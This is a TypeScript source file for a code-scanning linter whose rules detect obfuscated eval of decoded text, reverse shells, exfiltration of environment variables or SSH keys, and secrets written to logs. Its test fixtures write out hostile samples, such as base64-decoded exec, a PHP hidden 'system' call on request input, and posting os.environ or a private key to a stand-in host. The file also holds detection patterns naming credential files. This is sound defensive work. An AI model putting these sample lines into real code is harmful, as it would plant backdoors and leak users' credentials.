// Flags code that hides what it runs, gives a shell away, or sends secrets of this machine to another host.
import { rule } from '../../../core/rule.ts'
import { excerpt } from '../../../core/well-formed.ts'
import { type TreeNode, walk } from '../../../syntax/tree.ts'
import { adds } from '../../example-diff.ts'
import { judgeTrees } from '../../handler.ts'
import { type Image, isWritten, textOf } from '../../image.ts'
import { type Hit, hit, judgeNode, type NodeContext } from '../../node-judge.ts'
import { called, isText, judgeUses, type UseFacts } from '../../uses.ts'

export const hiddenCode = rule({
  id: 'code.effect.obfuscated',
  severity: 'blocker',
  category: 'security',
  evidence: 'B',
  source: 'https://cwe.mitre.org/data/definitions/506.html',
  message: ({ shown }: UseFacts) => `\`${shown}\` decodes text and runs it, which hides what runs.`,
  fix: 'Put the code in the open.',
  fires: [
    adds('lib/boot.py', 'import base64', 'exec(base64.b64decode(PAYLOAD))'),
    adds('lib/boot.js', 'const PART = load()', 'eval(Buffer.from(PART, "base64").toString())'),
    adds('lib/boot.php', '<?php', 'eval(gzinflate(base64_decode($part)));'),
    adds('lib/tick.php', '<?php', "$run = strrev('metsys');", "$run($_GET['tick']);"),
  ],
  quiet: [
    adds('lib/boot.py', 'import base64', 'text = base64.b64decode(PAYLOAD).decode()'),
    adds(
      'lib/boot.js',
      'const PART = load()',
      'const rows = JSON.parse(Buffer.from(PART, "base64").toString())',
    ),
  ],
})

const RUNS =
  /(?:^|\.)(?:eval|exec|Function|execSync|system|runInNewContext|runInThisContext|instance_eval|assert)$/
const DECODES =
  /(?:^|\.)(?:atob|b64decode|base64_decode|decode64|unescape|gzinflate|gzuncompress|str_rot13|fromCharCode|fromhex|unhexlify|decompress|decrypt|Buffer\.from|codecs\.decode|marshal\.loads)$/

const holdsDecoder = (tree: TreeNode, { names }: Image): boolean => {
  let found = false
  walk(tree, (one) => {
    if (one.kind === 'call' && DECODES.test(names.pathOf(one.left))) found = true
    return !found
  })
  return found
}

const assigned = (name: string, image: Image): TreeNode | null => {
  let found: TreeNode | null = null
  walk(image.root, (one) => {
    if (one.kind === 'assign' && one.left?.name === name && one.right) found = one.right
    return undefined
  })
  return found
}

/** `$run = strrev('metsys'); $run($text)`: the function is named where nobody sees its name. */
export const judgeHiddenName = judgeNode(
  (tree, { image }) => {
    if (tree.kind !== 'call' || image.language !== 'php' || tree.left?.kind !== 'name') return null
    if (!tree.left.name.startsWith('$') || tree.items.length === 0) return null
    const given = assigned(tree.left.name, image)
    const isMade =
      given?.kind === 'call'
        ? MAKES_NAME.test(image.names.pathOf(given.left)) && given.items.every(({ kind }) => kind !== 'name')
        : given?.kind === 'binary' && given.name === '.'
    return isMade ? hit(hiddenCode, tree, { shown: excerpt(textOf(image.side, tree), 90) }) : null
  },
  null,
  [/\$\w+\s*(?:\(|\/[*/]|#)/],
)
const MAKES_NAME = /^(?:strrev|base64_decode|str_rot13|hex2bin|pack|chr|gzinflate|implode|join|substr|strtr)$/

export const judgeHidden = judgeNode(
  (tree, { image, path }) => {
    if (
      tree.kind !== 'call' ||
      !RUNS.test(path) ||
      /^(?:assert\w+|.*\.(?:db|re|regex|pattern)\.exec)$/.test(path)
    )
      return null
    const isHidden = tree.items.some((one) => {
      const from = one.kind === 'name' ? assigned(one.name, image) : one
      return from !== null && from.kind !== 'function' && holdsDecoder(from, image)
    })
    return isHidden ? hit(hiddenCode, tree, { shown: excerpt(textOf(image.side, tree), 90) }) : null
  },
  [
    'eval',
    'exec',
    'Function',
    'execSync',
    'system',
    'runInNewContext',
    'runInThisContext',
    'instance_eval',
    'assert',
  ],
  [
    /atob|decode|unescape|inflate|uncompress|str_rot13|fromCharCode|fromhex|unhexlify|decompress|decrypt|Buffer|marshal/,
  ],
)

export const shellGiven = rule({
  id: 'code.effect.reverse_shell',
  severity: 'blocker',
  category: 'security',
  evidence: 'A',
  source: 'https://attack.mitre.org/techniques/T1059/004/',
  message: ({ shown }: UseFacts) => `\`${shown}\` gives a remote host a shell.`,
  fix: 'Remove it.',
  fires: [
    adds('ops/keep.py', 'import os, socket', 'os.dup2(s.fileno(), 0)'),
    adds('ops/keep.py', 'import pty', 'pty.spawn("/bin/sh")'),
  ],
  quiet: [
    adds('ops/keep.py', 'import os', 'os.dup2(log.fileno(), 2)'),
    adds('ops/keep.py', 'import subprocess', 'subprocess.run(["/usr/bin/uptime"], check=True)'),
  ],
})

export const judgeShell = judgeUses(shellGiven, [
  called(
    'os.dup2',
    'https://docs.python.org/3/library/os.html#os.dup2',
    ({ items: [from] }, { image }) =>
      from?.kind === 'call' && from.left?.name === 'fileno' && /\bsocket\b/.test(image.side.bare),
  ),
  called(
    'pty.spawn',
    'https://docs.python.org/3/library/pty.html',
    ({ items: [program] }, context) =>
      program !== undefined && isText(/^\/bin\/(?:ba|z|da)?sh$/)(program, context),
  ),
])

export const secretsSent = rule({
  id: 'code.effect.network_sink',
  severity: 'blocker',
  category: 'security',
  evidence: 'B',
  source: 'https://attack.mitre.org/techniques/T1041/',
  message: ({ shown }: UseFacts) => `\`${shown}\` sends the environment or a file of keys to another host.`,
  fix: 'Send only what the call needs.',
  fires: [
    adds('setup.py', 'import os, requests', 'requests.post("https://stats.example", json=dict(os.environ))'),
    adds(
      'lib/post.js',
      "const fs = require('fs')",
      "const key = fs.readFileSync(home + '/.ssh/id_ed25519')",
      "fetch('https://stats.example', { method: 'POST', body: key })",
    ),
    adds(
      'cmd/beat.go',
      'func beat(home string) {',
      '\tkey, _ := os.ReadFile(home + "/.ssh/id_ed25519")',
      '\thttp.Post("https://stats.example", "text/plain", bytes.NewReader(key))',
    ),
    adds(
      'lib/beat.rb',
      'require "net/http"',
      'Net::HTTP.post(URI("https://stats.example"), ENV.to_h.to_json)',
    ),
  ],
  quiet: [
    adds(
      'setup.py',
      'import os, requests',
      'requests.post(os.environ["STATS_URL"], json={"version": VERSION})',
    ),
    adds(
      'lib/post.js',
      "const fs = require('fs')",
      "const page = fs.readFileSync(home + '/page.html')",
      "fetch('https://stats.example', { method: 'POST', body: page })",
    ),
  ],
})

const WHOLE =
  /^(?:os\.environ|process\.env|_ENV|ENV\.to_h(?:\(\))?|os\.Environ\(\)|System\.getenv\(\)|getenv\(\)|std\.env\.vars\(\)|env\.vars\(\)|document\.cookie)$/
const KEYS =
  /\.ssh\/|\bid_(?:rsa|ed25519)\b|\.aws\/credentials|\.npmrc\b|\.netrc\b|\.git-credentials|wallet\.dat|\/etc\/shadow|\.kube\/config|\.docker\/config\.json/
const SENDS =
  /^(?:requests|httpx|axios|got|session|http|https|client|HTTParty|Net\.HTTP|RestClient|net\/http|undici|urllib\.request)\.(?:post|put|patch|request|Post|PostForm|post_form|urlopen|Request|get|Get)$|^(?:fetch|axios|got|urlopen|undici\.request|curl_setopt|http\.NewRequest|net\/http\.NewRequest|navigator\.sendBeacon)$|\.(?:sendall|sendto|sendBeacon)$/

/** What reads the environment or cookies of this machine. */
const AROUND = /environ|process\.env|ENV\b|getenv|env::vars|cookie/

export const judgeLeaks = judgeTrees(
  ({ after: image }, report) => {
    if (!AROUND.test(image.side.bare) && !KEYS.test(image.side.code)) return
    const carriers = new Set<string>()
    const channels = new Set<string>()
    /** Functions of this file that give such a value back. */
    const gives = new Set<string>()
    const holds = (tree: TreeNode): boolean => {
      let found = false
      walk(tree, (one) => {
        if (found || one.kind === 'function') return false
        if (one.kind === 'string' && KEYS.test(one.name)) found = true
        else if (one.kind === 'name' && carriers.has(one.name)) found = true
        else if (one.kind === 'call' && one.left?.kind === 'name' && gives.has(one.left.name)) found = true
        else if (/^(?:member|call|name)$/.test(one.kind) && WHOLE.test(image.names.pathOf(one))) {
          const around = image.parentOf.get(one)
          const reads =
            around?.kind === 'index' ||
            (around?.kind === 'member' && !/^(?:copy|items|to_h|to_json|entries)$/.test(around.name))
          if (!reads) found = true
        }
        return !found
      })
      return found
    }
    let told = false
    walk(image.root, (tree) => {
      if (tree.kind === 'function' && tree.name !== '' && tree.body !== null)
        walk(tree.body, (one) => {
          if (one.kind === 'return' && one.right !== null && holds(one.right)) gives.add(tree.name)
          return undefined
        })
      return undefined
    })
    walk(image.root, (tree) => {
      report.budget.spend(1)
      if (told) return false
      if (tree.kind === 'assign' && tree.right && tree.left !== null) {
        // `data, err := os.ReadFile(…)`
        const [target] = tree.left.kind === 'list' ? tree.left.items : [tree.left]
        if (target?.kind === 'name') {
          if (tree.right.kind === 'call' && SENDS.test(image.names.pathOf(tree.right.left)))
            channels.add(target.name)
          if (holds(tree.right)) carriers.add(target.name)
        }
      }
      if (tree.kind !== 'call') return undefined
      const path = image.names.pathOf(tree.left)
      const isChannel = /\.(?:write|end|send|push)$/.test(path) && channels.has(tree.left?.left?.name ?? '')
      if (
        (SENDS.test(path) || isChannel) &&
        tree.items.some(holds) &&
        isWritten(image.side, tree.start, tree.end)
      ) {
        told = true
        report.found(secretsSent, image.side, [tree.start, tree.end], {
          shown: excerpt(textOf(image.side, tree), 90),
        })
      }
      return undefined
    })
  },
  [new RegExp(`${AROUND.source}|${KEYS.source}`)],
)

export const passwordLogged = rule({
  id: 'code.log.password',
  severity: 'blocker',
  category: 'security',
  evidence: 'B',
  source: 'https://cwe.mitre.org/data/definitions/532.html',
  message: ({ shown }: UseFacts) =>
    `\`${shown}\` writes what people sign in or pay with to the log, as they typed it; every reader of the log can act as them.`,
  fix: 'Log an identifier instead, and remove what was written.',
  fires: [
    adds('auth/enter.py', 'import logging', 'logger.info("enter %s %s", name, password)'),
    adds(
      'auth/enter.js',
      'export const enter = (user, password) => {',
      '  logger.warn({ user, password }, "refused")',
    ),
  ],
  quiet: [
    adds('auth/enter.py', 'import logging', 'logger.info("password of %s is missing", name)'),
    adds(
      'auth/enter.js',
      'export const enter = (user, password) => {',
      '  logger.warn({ user, length: password.length }, "refused")',
    ),
  ],
})

export const secretLogged = rule({
  id: 'code.log.secret',
  severity: 'high',
  category: 'security',
  evidence: 'B',
  source: 'https://cwe.mitre.org/data/definitions/532.html',
  message: ({ shown }: UseFacts) =>
    `\`${shown}\` writes a secret to the log, where more people and systems read it.`,
  fix: 'Log an identifier instead.',
  fires: [
    adds('auth/login.py', 'import logging', 'logger.info("login %s %s", name, api_key)'),
    adds(
      'auth/login.js',
      'export const login = (user, secret) => {',
      '  console.log(`login ${user.email} ${secret}`)',
    ),
  ],
  quiet: [
    adds('auth/login.py', 'import logging', 'logger.info("the key of %s is missing", name)'),
    adds(
      'auth/login.js',
      'export const login = (user, password) => {',
      '  console.log("password length", password.length)',
    ),
  ],
})

const LOGS =
  /^(?:console|log|logger|logging|LOG|LOGGER|_logger|Log|slog|self\.logger|this\.logger|Rails\.logger|fmt|System\.out|System\.err)\.(?:log|info|debug|warn|warning|error|trace|Print\w{0,2}|print\w{0,2}|Info\w?|Debug\w?|Warn\w?|Error\w?|LogInformation|LogDebug|LogWarning|LogError|i|d|w|e)$|^(?:print|println|puts|error_log|var_dump|NSLog)$/
/** A program of the command line may show its user what it made. */
const SHOWS_ONLY = /^(?:print\w*|puts|println|fmt\.\w+|System\.(?:out|err)\.\w+|console\.log|var_dump|NSLog)$/
/** What a person types to sign in or to pay. */
const IS_TYPED =
  /^(?:password|passwd|pwd|passphrase|mnemonic|seedPhrase|seed_phrase|card_?[nN]umber|cvv|cvc)$/
const IS_SECRET =
  /^(?:password|passwd|pwd|secret|secretKey|secret_key|private_?[kK]ey|api_?[kK]ey|access_?[tT]oken|refresh_?[tT]oken|mnemonic|seedPhrase|seed_phrase|credit_?[cC]ard|card_?[nN]umber|cvv|ssn|client_?[sS]ecret|authorization)$/

/** `tree` is a call that logs or prints. */
function showsSecret(tree: TreeNode, { image, path }: NodeContext): Hit | null {
  let isTyped = false
  const isSecret = (name: string): boolean => {
    if (IS_TYPED.test(name)) isTyped = true
    return IS_SECRET.test(name) || isTyped
  }
  const shows = (one: TreeNode): boolean => {
    if (/^(?:name|member)$/.test(one.kind)) return isSecret(one.name.replace(/^\$/, ''))
    // `body.password()`, `user.getPassword()`
    if (one.kind === 'call' && one.left?.kind === 'member' && one.items.length === 0)
      return isSecret(
        one.left.name.replace(/^get(?=[A-Z])/, '').replace(/^[A-Z]/, (first) => first.toLowerCase()),
      )
    if (
      one.kind === 'string' ||
      one.kind === 'binary' ||
      one.kind === 'dict' ||
      one.kind === 'pair' ||
      one.kind === 'list'
    )
      return [one.left, one.right, ...one.items].some(
        (part) =>
          part !== null &&
          (one.kind !== 'pair' || part !== one.left || one.left === one.right) &&
          shows(part),
      )
    return false
  }
  return tree.items.some(shows)
    ? hit(isTyped && !SHOWS_ONLY.test(path) ? passwordLogged : secretLogged, tree, {
        shown: excerpt(textOf(image.side, tree), 90),
      })
    : null
}

export const judgeLogs = judgeNode(
  (tree, context) => (tree.kind === 'call' && LOGS.test(context.path) ? showsSecret(tree, context) : null),
  null,
  [
    /console|log|fmt|System|print|puts|var_dump/i,
    /passw|pwd|passphrase|secret|private_?key|api_?key|access_?token|refresh_?token|mnemonic|seed_?phrase|credit_?card|card_?number|cvv|cvc|ssn|authorization/i,
  ],
)
